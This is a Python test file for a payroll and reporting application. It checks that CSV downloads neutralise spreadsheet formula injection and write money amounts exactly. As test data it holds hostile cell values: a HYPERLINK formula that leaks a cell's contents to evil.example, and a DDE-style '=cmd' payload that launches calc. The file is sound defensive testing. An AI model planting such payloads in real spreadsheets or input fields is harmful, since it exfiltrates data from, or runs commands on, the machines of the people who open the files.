"""Every CSV Coprod produces is safe and exact: text that a spreadsheet would run as a formula is
neutralised, money is written from integer pence, and the file opens in Excel as UTF-8. The
rule is tested as a table, then each download through the route people use."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
from typing import Any

import pytest

from coprod import clock
from coprod.integrations import csv_files
from coprod.integrations.csv_files import Money
from coprod.models import (
    Claim,
    Network,
    NetworkMember,
    NetworkMembership,
    NetworkRole,
    Organisation,
    Role,
)
from coprod.services import auth, claims, payouts, payroll
from tests.conftest import sign_in
from tests.involvement import (
    claimed_and_approved,
    last_financial_year,
    person,
    seed,
    took_part,
    trust,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your payment")'
BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Ann Able", "Ann Able"),
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("-12.50", "'-12.50"),  # typed by a person: text, so neutralised
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturned", "'\rReturned"),
        ("A=1", "A=1"),  # only the first character matters
        ("", ""),
        (None, ""),
        (42, "42"),
        (-3, "-3"),  # a number our code made stays a number
        (12.5, "12.5"),
        (dt.date(2026, 4, 6), "2026-04-06"),
        (Money(-1250), "-12.50"),  # money our code made is not neutralised
        (Money(0), "0.00"),
        (Money(5), "0.05"),
        (Money(-5), "-0.05"),
        (Money(14000), "140.00"),
        (Money(123456789012345678), "1234567890123456.78"),  # beyond a float's precision
    ],
)
def test_a_cell_is_neutralised_or_written_exactly(value: Any, written: str) -> None:
    assert csv_files.cell(value) == written


def test_a_file_has_a_byte_order_mark_and_crlf_line_ends_and_reads_back() -> None:
    text = csv_files.write(["name", "total"], [["=cmd", Money(-1250)], ["Line\nbreak", 3]])
    assert text.startswith("\ufeffname,total\r\n'=cmd,-12.50\r\n")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["name", "total"],
        ["'=cmd", "-12.50"],
        ["Line\nbreak", "3"],
    ]


def rows_of(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM), "Excel needs the byte-order mark to read UTF-8"
    assert b"\r\n" in response.content and b"\n" not in response.content.replace(b"\r\n", b"")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


async def test_the_payroll_export_and_statement_downloads_are_safe_and_exact(
    client: Any, make_client: Any, world: Any
) -> None:
    t = await trust(world)
    org = await Organisation.get(id=t.organisation_id)
    finance_user = await world.user(org, "fin@trust.example", Role.FINANCE_OFFICER)
    finance = await auth.actor_for(finance_user, org.id)
    started = clock.today() - dt.timedelta(days=30)
    rows: list[dict[str, Any]] = []
    people = {}
    for name, reference in ((HYPERLINK, "+1"), ("Bea Bold", "@PR-2")):
        rep = await person(t, name, contract_from=started)
        await payouts.set_payout_method(
            t.lead,
            rep,
            {
                "payout_method": "payroll",
                "payroll_reference": reference,
                "national_insurance_number": "AB123456C",
            },
        )
        rows.append(await took_part(t, rep, started + dt.timedelta(days=3), minutes=300))
        people[name] = rep
    for rep in people.values():
        await claimed_and_approved(t, rep, rows, miles=10)
    pay_day = {"payment_date": clock.today().isoformat()}
    first = await payroll.export_payroll(finance, pay_day)
    # A correction takes £12.50 back from the first person; it is approved and exported too.
    paid = await Claim.get(representative_id=people[HYPERLINK].id)
    correction = await claims.correct(t.lead, paid, {"amount_pence": -1250, "reason": "Overpaid"})
    await claims.submit(t.lead, correction)
    await claims.approve(t.approver, correction, {})
    second = await payroll.export_payroll(finance, pay_day)

    await sign_in(client, "fin@trust.example")
    header, *lines = rows_of(await client.get(f"/finance/exports/{first.id}.csv"))
    assert header[:3] == ["payroll_number", "national_insurance_number", "name"]
    by_name = {(line[2], line[3]): line for line in lines}
    # What a person typed is neutralised; the amounts our code worked out are plain numbers.
    assert by_name[("'" + HYPERLINK, "FEE")][0] == "'+1"
    assert by_name[("'" + HYPERLINK, "FEE")][6] == "140.00"
    assert by_name[("'" + HYPERLINK, "EXP-MILEAGE")][6] == "4.50"
    assert by_name[("Bea Bold", "FEE")][0] == "'@PR-2"
    _, taken_back = rows_of(await client.get(f"/finance/exports/{second.id}.csv"))
    assert (taken_back[3], taken_back[6]) == ("FEE", "-12.50")

    lead = make_client()
    await sign_in(lead, "lead@trust.example")
    statement = rows_of(
        await lead.get(f"/representatives/{people[HYPERLINK].id}/statement?format=csv")
    )
    assert statement[0] == [
        "paid_on",
        "claim",
        "method",
        "fees",
        "expenses",
        "adjustments",
        "total",
    ]
    amounts = sorted(line[3:] for line in statement[1:])
    assert amounts == [["0.00", "0.00", "-12.50", "-12.50"], ["140.00", "4.50", "0.00", "144.50"]]
    assert {line[2] for line in statement[1:]} == {"Payroll"}


async def test_the_report_downloads_are_safe_and_exact(client: Any, world: Any) -> None:
    year = last_financial_year()
    first = dt.date(year, 4, 1)
    rows: dict[str, list[dict[str, Any]]] = {}
    for i, name in enumerate(("+1 Health NHS Trust", "=cmd|' /C calc'!A0 Trust")):
        t = await trust(world, name, f"trust{i}")
        rows[name] = await seed(t, random.Random(i), first=first, n=12, reps=6)
    orgs = await Organisation.all()
    network = await Network.create(name="@Crisis care network")
    for org in orgs:
        await NetworkMembership.create(network=network, organisation=org)
    user = await world.user(orgs[0], "nina@trust.example", Role.REPORTER)
    await NetworkMember.create(user=user, network=network, role=NetworkRole.NETWORK_REPORTER)
    await sign_in(client, "nina@trust.example")

    own = rows_of(await client.get(f"/api/v1/reports/organisation.csv?year={year}"))
    figures = {tuple(line[:3]): line[3] for line in own[1:]}
    mine = [r for r in rows[orgs[0].name] if first <= r["day"] <= dt.date(year + 1, 3, 31)]
    assert int(figures["spend", "", "fees_pence"]) == sum(r["fee_pence"] for r in mine)
    assert int(figures["spend", "", "expenses_pence"]) == sum(r["expenses_pence"] for r in mine)

    rolled = rows_of(await client.get(f"/api/v1/reports/networks/{network.id}.csv?year={year}"))
    figures = {tuple(line[:3]): line[3] for line in rolled[1:]}
    assert figures["network", "", "name"] == "'@Crisis care network"
    members = {key for section, key, _ in figures if section == "members"}
    assert members == {"'+1 Health NHS Trust", "'=cmd|' /C calc'!A0 Trust"}
    everyone = [
        r
        for own_rows in rows.values()
        for r in own_rows
        if first <= r["day"] <= dt.date(year + 1, 3, 31)
    ]
    assert int(figures["spend", "", "fees_pence"]) == sum(r["fee_pence"] for r in everyone)
